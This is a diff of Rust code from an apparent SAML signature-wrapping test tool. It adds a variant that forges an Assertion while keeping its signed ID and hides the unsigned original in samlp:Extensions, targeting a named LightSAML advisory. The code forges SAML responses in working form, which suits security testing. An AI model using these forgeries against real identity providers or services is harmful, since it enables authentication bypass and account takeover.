@@ -96,22 +96,25 @@ pub fn xsw4(f: &Forge) -> Result<Forged, Skip> {
 /// XSW5: the Assertion forged in place (new ID, Signature kept); an unsigned copy of the
 /// original appended at the end of the Response.
 pub fn xsw5(f: &Forge) -> Result<Forged, Skip> {
-    forged_in_place_original_at(f, &|p| {
+    forged_in_place_original_at(f, true, &|p| {
         insert(before_end_tag(p.doc.src, p.root), p.assertion_unsigned())
     })
 }
 
-/// The Assertion forged in place (new ID, Signature kept), the unsigned original inserted
-/// by `place`.
+/// The Assertion forged in place (Signature kept; a new ID when `new_id`), the unsigned
+/// original inserted by `place`.
 fn forged_in_place_original_at(
     f: &Forge,
+    new_id: bool,
     place: &dyn Fn(&Parts) -> (std::ops::Range<usize>, String),
 ) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
     let (mut edits, swap) = forge_in_place(&p);
-    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
+    if new_id {
+        edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
+    }
     edits.push(place(&p));
     forged(p.splice_unsigned_response(edits), swap)
 }
@@ -122,15 +125,26 @@ fn forged_in_place_original_at(
 /// regression test wraps the original in an unqualified element after the forged Assertion,
 /// this is the schema-valid variant of that shape).
 pub fn original_in_extensions(f: &Forge) -> Result<Forged, Skip> {
-    forged_in_place_original_at(f, &|p| {
-        insert(
-            p.after_response_header(),
-            format!(
-                "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
-                p.assertion_unsigned()
-            ),
-        )
-    })
+    forged_in_place_original_at(f, true, &in_extensions)
+}
+
+/// As [`original_in_extensions`], the forged Assertion keeping the signed ID: the
+/// Reference resolves to the first element with it, the original in Extensions, and the
+/// Reference names the Assertion that carries the Signature (LightSAML < 5.0.1 on
+/// xmlseclibs, GHSA-w553-pwx6-3mg9).
+pub fn original_in_extensions_same_id(f: &Forge) -> Result<Forged, Skip> {
+    forged_in_place_original_at(f, false, &in_extensions)
+}
+
+/// The unsigned original in `samlp:Extensions` after the Response's Issuer.
+fn in_extensions(p: &Parts) -> (std::ops::Range<usize>, String) {
+    insert(
+        p.after_response_header(),
+        format!(
+            "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
+            p.assertion_unsigned()
+        ),
+    )
 }
 
 /// XSW6: as XSW5, the unsigned original copy inside the forged Assertion's Signature.
